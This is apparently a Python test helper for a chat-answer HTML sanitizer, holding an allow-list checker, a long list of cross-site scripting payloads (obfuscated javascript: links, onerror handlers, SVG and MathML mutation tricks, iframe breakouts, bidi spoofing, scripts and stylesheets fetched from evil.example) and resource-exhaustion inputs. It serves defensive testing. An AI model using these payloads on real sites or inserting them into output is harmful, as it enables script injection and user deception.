"""Hostile answers, and what a page may hold of them: an allow list of its own, not that of the package."""

from __future__ import annotations

import re
from html.parser import HTMLParser

__all__ = ["BOMBS", "HOSTILE", "Page", "assert_harmless"]

VOID = {"br", "hr", "img", "meta", "mspace"}
PLAIN_TAGS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "div", "span", "sup"),
    *("table", "thead", "tbody", "tr", "th", "td", "details", "summary", "h1", "h2", "h3", "h4", "h5", "h6"),
}
MATH_TAGS = set(
    "math mrow mi mn mo ms mtext mspace msup msub msubsup mover munder munderover mfrac msqrt mroot mtable mtr mtd "
    "mstyle mpadded mphantom menclose".split()
)
ATTRIBUTES = set(
    "href title class start align rel target id aria-label role hidden tabindex alt width height dir".split()
)
MATH_ATTRIBUTES = set(
    "display stretchy fence accent movablelimits displaystyle largeop width lspace rspace minsize maxsize rowspacing "
    "columnspacing mathvariant notation columnalign rowlines columnlines form linebreak linethickness mathcolor "
    "scriptlevel".split()
)
FRAME_ATTRIBUTES = {"class", "sandbox", "loading", "height", "title", "srcdoc"}


class Page(HTMLParser):
    """Reads HTML as a browser's parser would report it: each element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len(dict(attrs)) == len(attrs), f"<{tag}> has an attribute twice"
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        assert self.open, f"</{tag}> closes something that the answer did not open"
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def links(self) -> list[str | None]:
        return [attributes.get("href") for tag, attributes in self.elements if tag == "a"]

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.words).split())


def assert_harmless(html: str) -> None:
    """Check that HTML holds nothing that runs, fetches or covers anything, and nothing but what it opened itself."""
    page = Page(html)
    assert not page.open
    for tag, attributes in page.elements:
        assert not any(name.startswith("on") or name == "style" for name in attributes), (tag, attributes)
        if tag == "iframe":
            _assert_framed(attributes)
        elif tag == "img":
            assert set(attributes) <= {"src", "alt", "width", "height", "class"}
            assert re.fullmatch(r"poe-media:\d+", str(attributes.get("src")))
        elif tag in MATH_TAGS:
            assert set(attributes) <= MATH_ATTRIBUTES, (tag, attributes)
            assert not any(re.search(r"[:(;]|(?<![.\d])\d{3}", str(value)) for value in attributes.values()), attributes
        else:
            assert tag in PLAIN_TAGS, tag
            assert set(attributes) <= ATTRIBUTES, (tag, attributes)
            _assert_plain(tag, attributes)


def _assert_plain(tag: str, attributes: dict[str, str | None]) -> None:
    for name in (attributes.get("class") or "").split():
        assert re.fullmatch(r"language-[\w+#.-]{1,32}|highlight|[a-z]{1,2}|poe-[a-z-]+", name), name
        assert not re.match(r"poe-(?:card|turn|status|inspect|block|notebook)", name), name
    assert re.fullmatch(r"poe-(?:fn|ref)-[0-9a-z]*-\d+(?:-\d+)?", attributes.get("id") or "poe-fn--1")
    if tag != "a" or "href" not in attributes:
        return
    href = str(attributes["href"])
    assert attributes["rel"] == "noopener noreferrer"
    if href.startswith("#"):
        assert re.fullmatch(r"#poe-(?:fn|ref)-[0-9a-z]*-\d+(?:-\d+)?", href)
    else:
        assert href.lower().startswith(("http://", "https://", "mailto:")), href
        assert attributes["target"] == "_blank"


def _assert_framed(attributes: dict[str, str | None]) -> None:
    assert set(attributes) <= FRAME_ATTRIBUTES
    assert attributes["sandbox"] == "allow-scripts"
    within = Page(str(attributes["srcdoc"]))
    (_, charset), (_, policy) = (element for element in within.elements if element[0] == "meta")
    assert charset == {"charset": "utf-8"}
    assert str(policy["http-equiv"]).lower() == "content-security-policy"
    assert str(policy["content"]).startswith("default-src 'none'; ")
    rest = [element for element in within.elements if element[0] not in ("meta", "style")]
    assert len(rest) == 1, "one thing stands in the outer frame: the inner one, or the link to a page from elsewhere"
    tag, found = rest[0]
    if tag == "iframe":
        assert "frame-src 'none'" in str(policy["content"])
        assert set(found) == {"title", "sandbox", "srcdoc"}
        assert found["sandbox"] == "allow-scripts"
    else:
        assert tag == "a"
        assert "script" not in str(policy["content"])
        assert set(found) == {"href", "rel"}
        assert str(found["href"]).startswith("https://")


RUN = "alert(1)"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<a href="javascript:{RUN}">x</a>',
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s><set attributeName=href to=javascript:{RUN} />",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x'/><foreignObject><iframe src=x></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math href='javascript:{RUN}'><maction xlink:href='javascript:{RUN}'>x</maction></math>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src='javascript:{RUN}'></iframe>",
    "<iframe src='https://evil.example/' sandbox='allow-same-origin allow-scripts allow-top-navigation'></iframe>",
    f"<iframe src='https://evil.example/\"><script>{RUN}</script>' height='9e9' onload={RUN}></iframe>",
    "<iframe\nsrc=//evil.example\nheight=100%></iframe>",
    f"<html><body></iframe></html><script>{RUN}</script>",
    f'<html>"></iframe><script>parent.{RUN}</script></html>',
    f"```html\n<html>&quot;&gt;</iframe><script>{RUN}</script></html>\n```",
    f"```html\n<html>'\"--></style></script></iframe></body></html><script>{RUN}</script>\n```",
    "<!doctype html>\n<html><base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'></html>",
    "<html\n\nonload=alert(1)></html>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example);width:expression(alert(1))'>x</div>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<base href=https://evil.example><form action=/x><input name=cookie id=location></form>",
    "<object data=//evil.example></object><embed src=//evil.example><frameset><frame src=//evil.example></frameset>",
    "<video poster=//evil.example src=//evil.example autoplay onplay=alert(1)></video><audio src=//evil.example>",
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open id=x>x</dialog>",
    "<x contenteditable onbeforeinput=alert(1) autofocus tabindex=1 onfocus=alert(1) popover>",
    "</pre></code></div></section></td></table></body><b>out</b>",
    '</div></div></section><script src="https://evil.example/x.js"></script>',
    "</span></code></math></annotation></svg></template></title></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](  javascript:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](<java\nscript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A;avascript&colon;{RUN})",
    f"[x](&Tab;javascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](\u00a0javascript:{RUN})",
    f"[x](\u2028javascript:{RUN})",
    f"[x](\u200bjavascript:{RUN})",
    f"[x](\uff4aavascript:{RUN})",
    f"[x](%6Aavascript:{RUN})",
    f"[x](java\\script:{RUN})",
    f"[x](vbscript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](poe-media:0) [x](poe-media:0) <poe-media:0> [x][r]\n\n[r]: poe-media:0",
    "[x](#poe-fn--1) [x](#poe-ref--1-1) [^1]\n\n[^1]: <img src=poe-media:0>",
    '[^x"onclick=alert(1)]: y\n[^x"onclick=alert(1)] [^<script>] \n\n[^<script>]: [^<script>]',
    "[x](file:///etc/passwd) [x](//evil.example) [x](/lab/tree/a.ipynb) [x](#id) [x](a.ipynb) [x](blob:https://a/b)",
    f"<javascript:{RUN}> <data:text/html,x>",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f'[x](https://a.example "\\" onmouseover={RUN} x=\\"")',
    f'![" onerror={RUN} x="](https://a.example/i.png)',
    f'[x](https://a.example/"onmouseover={RUN})',
    f'```" onmouseover="{RUN}\nx\n```',
    "```x poe-card\ny\n```\n\n```poe-card&#32;poe-bad\ny\n```",
    "```python\n</code></pre><script>alert(1)</script> '''\n",
    "</code></pre><script>alert(1)</script>\n\n    </code></pre><script>alert(1)</script>",
    '|a" onclick="alert(1)|b|\n|:-|-:|\n|<script>x</script>|</td></table>|',
    "1000000000. x\n\n2147483648. y",
    "[x](https://a.example/&quot;&gt;&lt;script&gt;)",
    'https://a.example/"><script>alert(1)</script>',
    "https://a.example/'onmouseover='alert(1)",
    'www.a.example/"onmouseover=alert(1) me@a.example"onclick=alert(1)',
    "mailto:a@b.example?body=<script>",
    r"$\text{<img src=x onerror=alert(1)>}$ $\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$",
    r"$$\text{</mtext></math><script>alert(1)</script>}$$",
    r"\[ \unicode{x3c}script\unicode{x3e} \rule{99999em}{99999em} \hspace{-9999em} \mathchoice{a}{b}{c}{d} \]",
    r"$\color{red;background:url(//evil.example)}{x}$ $\begin{array}{l|r onclick=alert(1)} a & b \end{array}$",
    r"$&lt;script&gt; \text{&lt;img src=x onerror=alert(1)&gt;} &#60;b&#62;$",
    "\u202e<script>alert(1)</script>\u202c \u2066[moc.live](https://good.example)\u2069 \u200f\u061c",
    '[\u202egro.live\u202c](https://evil.example "\u202etitle") `\u202egnp.exe\u202c`',
    "\x00<script\x00>alert(1)</script>\x0c<img/src=x/onerror=alert(1)>",
    "<a\u2028href=javascript:alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
]

BOMBS = {
    "10 MB in one line": ("x" * 10_000_000, "10,000,000 characters"),
    "quotes": (">" * 100_000, "nested more than"),
    "quotes with spaces": ("> " * 100_000, "nested more than"),
    "brackets": ("[" * 100_000, "in one paragraph"),
    "images": ("![" * 100_000, "in one paragraph"),
    "footnotes in footnotes": ("x[^a]\n\n" + "[^a]: " * 50_000, "Footnote"),
    "some quotes": ("> " * 60 + "deep", "nested more than"),
    "lists": ("".join(" " * 2 * i + "- a\n" for i in range(60)), "nested more than"),
    "100,000 list markers": ("+ " * 100_000, "nested more than"),
    "emphasis": ("*a_ " * 25_000, "in one paragraph"),
    "cells": (("|a" * 40 + "|\n" + "|-" * 40 + "|\n" + ("|b" * 40 + "|\n") * 150 + "\n") * 40, "elements"),
    "pages": ("```html\n<html></html>\n```\n\n" * 400, "more than 10 pages"),
    "items": ("- a\n" * 120_000, "Cut here"),
    "items in one piece": ("- a\n" * 35_000, "elements"),
}
